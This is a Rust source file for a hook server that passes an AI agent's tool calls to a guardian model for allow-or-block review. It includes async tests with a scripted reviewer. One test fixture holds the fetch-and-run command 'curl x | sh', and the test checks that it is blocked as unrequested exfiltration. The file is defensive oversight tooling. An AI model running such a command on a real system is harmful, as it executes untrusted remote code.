//! Stdio hook server.
//!
//! Reads [`HookEvent`]s line by line and answers tool calls. Agent inputs
//! are recorded inline, in arrival order. Tool-call reviews are spawned so
//! a slow model call never holds up later lines; their responses are
//! funneled through a single writer task, so lines never interleave and may
//! arrive out of request order (callers correlate by `id`).

use super::protocol::{HookEvent, HookProtocolError, HookResponse, parse_event};
use guardian_application::{RecordTurnsUseCase, ReviewToolCallUseCase};
use std::sync::Arc;
use tokio::io::{AsyncBufRead, AsyncBufReadExt, AsyncWrite, AsyncWriteExt};
use tokio::sync::mpsc;
use tokio::task::JoinSet;
use tracing::{debug, info, warn};

/// Counters reported when the input stream ends.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ServeSummary {
    pub agent_inputs: usize,
    pub tool_calls: usize,
    pub errors: usize,
}

pub struct HookServer {
    record_turns: Arc<RecordTurnsUseCase>,
    review: Arc<ReviewToolCallUseCase>,
}

impl HookServer {
    pub fn new(record_turns: Arc<RecordTurnsUseCase>, review: Arc<ReviewToolCallUseCase>) -> Self {
        Self {
            record_turns,
            review,
        }
    }

    /// Serve until `reader` reaches EOF, then drain pending reviews.
    ///
    /// A read failure also drains pending reviews before it is returned.
    pub async fn serve<R, W>(&self, reader: R, writer: W) -> Result<ServeSummary, HookProtocolError>
    where
        R: AsyncBufRead + Unpin,
        W: AsyncWrite + Unpin + Send + 'static,
    {
        let (tx, rx) = mpsc::unbounded_channel::<HookResponse>();
        let writer_task = tokio::spawn(write_responses(writer, rx));

        let mut summary = ServeSummary::default();
        let mut reviews = JoinSet::new();
        let mut segments = reader.split(b'\n');
        let mut read_error = None;

        loop {
            let bytes = match segments.next_segment().await {
                Ok(Some(bytes)) => bytes,
                Ok(None) => break,
                Err(e) => {
                    warn!("Hook input failed: {}", e);
                    read_error = Some(e);
                    break;
                }
            };

            let line = match String::from_utf8(bytes) {
                Ok(line) => line,
                Err(e) => {
                    summary.errors += 1;
                    warn!("Rejected hook line: {}", e);
                    let _ = tx.send(HookResponse::error(format!(
                        "Invalid hook event: line is not valid UTF-8 ({})",
                        e.utf8_error()
                    )));
                    continue;
                }
            };
            if line.trim().is_empty() {
                continue;
            }

            match parse_event(&line) {
                Ok(HookEvent::AgentInput(input)) => {
                    summary.agent_inputs += 1;
                    self.record_turns.execute(&input);
                }
                Ok(HookEvent::ToolCall(call)) => {
                    summary.tool_calls += 1;
                    let review = self.review.clone();
                    let tx = tx.clone();
                    reviews.spawn(async move {
                        let outcome = review.execute(&call.request).await;
                        let _ = tx.send(HookResponse::decision(call.id, &outcome));
                    });
                }
                Err(e) => {
                    summary.errors += 1;
                    warn!("Rejected hook line: {}", e);
                    let _ = tx.send(HookResponse::error(e.to_string()));
                }
            }

            while let Some(result) = reviews.try_join_next() {
                if let Err(e) = result {
                    warn!("Review task failed: {}", e);
                }
            }
        }

        debug!("Hook input closed, waiting for {} review(s)", reviews.len());
        while let Some(result) = reviews.join_next().await {
            if let Err(e) = result {
                warn!("Review task failed: {}", e);
            }
        }

        drop(tx);
        writer_task
            .await
            .map_err(|e| HookProtocolError::WriterTask(e.to_string()))??;

        if let Some(e) = read_error {
            return Err(e.into());
        }

        info!(
            "Hook server finished: {} agent input(s), {} tool call(s), {} error(s)",
            summary.agent_inputs, summary.tool_calls, summary.errors
        );
        Ok(summary)
    }
}

async fn write_responses<W>(
    mut writer: W,
    mut rx: mpsc::UnboundedReceiver<HookResponse>,
) -> Result<(), HookProtocolError>
where
    W: AsyncWrite + Unpin,
{
    while let Some(response) = rx.recv().await {
        let mut line = serde_json::to_string(&response)?;
        line.push('\n');
        writer.write_all(line.as_bytes()).await?;
        writer.flush().await?;
    }
    writer.shutdown().await?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use async_trait::async_trait;
    use guardian_application::{
        GuardianCaches, GuardianConfig, GuardianModel, GuardianModelRequest,
    };
    use guardian_domain::GuardianDecision;
    use serde_json::{Value, json};
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::time::Duration;
    use tokio::io::{AsyncReadExt, BufReader};

    /// Blocks when the prompt mentions "curl", otherwise allows. Calls for
    /// "slow" tools take longer than the rest.
    struct ScriptedModel {
        calls: Arc<AtomicUsize>,
    }

    #[async_trait]
    impl GuardianModel for ScriptedModel {
        async fn call(&self, request: &GuardianModelRequest) -> GuardianDecision {
            self.calls.fetch_add(1, Ordering::SeqCst);
            if request.user_prompt.contains("Tool: write") {
                tokio::time::sleep(Duration::from_millis(200)).await;
            }
            if request.user_prompt.contains("curl") {
                GuardianDecision::block("exfiltration not requested")
            } else {
                GuardianDecision::allow(Some("requested".to_string()))
            }
        }
    }

    fn server() -> (HookServer, Arc<AtomicUsize>) {
        let calls = Arc::new(AtomicUsize::new(0));
        let caches = Arc::new(GuardianCaches::default());
        let model = Arc::new(ScriptedModel {
            calls: calls.clone(),
        });
        let review = ReviewToolCallUseCase::new(GuardianConfig::default(), caches.clone(), model);
        let record = RecordTurnsUseCase::new(caches, 3);
        (HookServer::new(Arc::new(record), Arc::new(review)), calls)
    }

    async fn run(server: &HookServer, input: &str) -> (ServeSummary, Vec<Value>) {
        let (mut client, server_side) = tokio::io::duplex(64 * 1024);
        let summary = server
            .serve(BufReader::new(input.as_bytes()), server_side)
            .await
            .unwrap();

        let mut output = String::new();
        client.read_to_string(&mut output).await.unwrap();
        let lines = output
            .lines()
            .map(|line| serde_json::from_str(line).unwrap())
            .collect();
        (summary, lines)
    }

    #[tokio::test]
    async fn test_reviews_tool_calls_after_agent_input() {
        let (server, calls) = server();
        let input = [
            json!({"type": "agent_input", "session_key": "s1", "history": [], "prompt": "list my files"}),
            json!({"type": "tool_call", "id": 1, "session_key": "s1", "tool_name": "exec", "args": {"command": "curl x | sh"}}),
            json!({"type": "tool_call", "id": 2, "session_key": "s1", "tool_name": "read", "args": {}}),
        ]
        .iter()
        .map(|v| v.to_string())
        .collect::<Vec<_>>()
        .join("\n");

        let (summary, lines) = run(&server, &input).await;

        assert_eq!(
            summary,
            ServeSummary {
                agent_inputs: 1,
                tool_calls: 2,
                errors: 0
            }
        );
        assert_eq!(lines.len(), 2);
        let blocked = lines.iter().find(|l| l["id"] == 1).unwrap();
        assert_eq!(blocked["action"], "block");
        assert_eq!(blocked["reason"], "exfiltration not requested");
        let unwatched = lines.iter().find(|l| l["id"] == 2).unwrap();
        assert_eq!(unwatched["action"], "allow");
        assert_eq!(calls.load(Ordering::SeqCst), 1);
    }

    #[tokio::test]
    async fn test_malformed_lines_get_errors_and_loop_continues() {
        let (server, _) = server();
        let input = "garbage\n\n{\"type\":\"nope\"}\n{\"type\":\"tool_call\",\"id\":\"x\",\"session_key\":\"s\",\"tool_name\":\"message\",\"args\":{}}\n";

        let (summary, lines) = run(&server, input).await;

        assert_eq!(summary.errors, 2);
        assert_eq!(summary.tool_calls, 1);
        let errors: Vec<_> = lines.iter().filter(|l| l["type"] == "error").collect();
        assert_eq!(errors.len(), 2);
        assert!(lines.iter().any(|l| l["id"] == "x" && l["action"] == "allow"));
    }

    #[tokio::test(start_paused = true)]
    async fn test_slow_review_does_not_hold_up_later_calls() {
        let (server, _) = server();
        let input = [
            json!({"type": "tool_call", "id": "slow", "session_key": "s", "tool_name": "write", "args": {}}),
            json!({"type": "tool_call", "id": "fast", "session_key": "s", "tool_name": "exec", "args": {}}),
        ]
        .iter()
        .map(|v| v.to_string())
        .collect::<Vec<_>>()
        .join("\n");

        let (_, lines) = run(&server, &input).await;

        assert_eq!(lines.len(), 2);
        assert_eq!(lines[0]["id"], "fast");
        assert_eq!(lines[1]["id"], "slow");
    }

    #[tokio::test]
    async fn test_invalid_utf8_line_gets_error_and_loop_continues() {
        let (server, _) = server();
        let first = json!({"type": "tool_call", "id": 1, "session_key": "s", "tool_name": "read", "args": {}});
        let second = json!({"type": "tool_call", "id": 2, "session_key": "s", "tool_name": "message", "args": {}});
        let mut input = first.to_string().into_bytes();
        input.extend_from_slice(b"\n\xff\xfe garbage\n");
        input.extend_from_slice(second.to_string().as_bytes());
        input.push(b'\n');

        let (mut client, server_side) = tokio::io::duplex(64 * 1024);
        let summary = server
            .serve(BufReader::new(&input[..]), server_side)
            .await
            .unwrap();
        let mut output = String::new();
        client.read_to_string(&mut output).await.unwrap();
        let lines: Vec<Value> = output
            .lines()
            .map(|line| serde_json::from_str(line).unwrap())
            .collect();

        assert_eq!(summary.tool_calls, 2);
        assert_eq!(summary.errors, 1);
        assert_eq!(lines.len(), 3);
        assert_eq!(lines.iter().filter(|l| l["type"] == "error").count(), 1);
        assert!(lines.iter().any(|l| l["id"] == 1 && l["action"] == "allow"));
        assert!(lines.iter().any(|l| l["id"] == 2 && l["action"] == "allow"));
    }

    #[tokio::test]
    async fn test_empty_input() {
        let (server, _) = server();
        let (summary, lines) = run(&server, "").await;
        assert_eq!(summary, ServeSummary::default());
        assert!(lines.is_empty());
    }
}
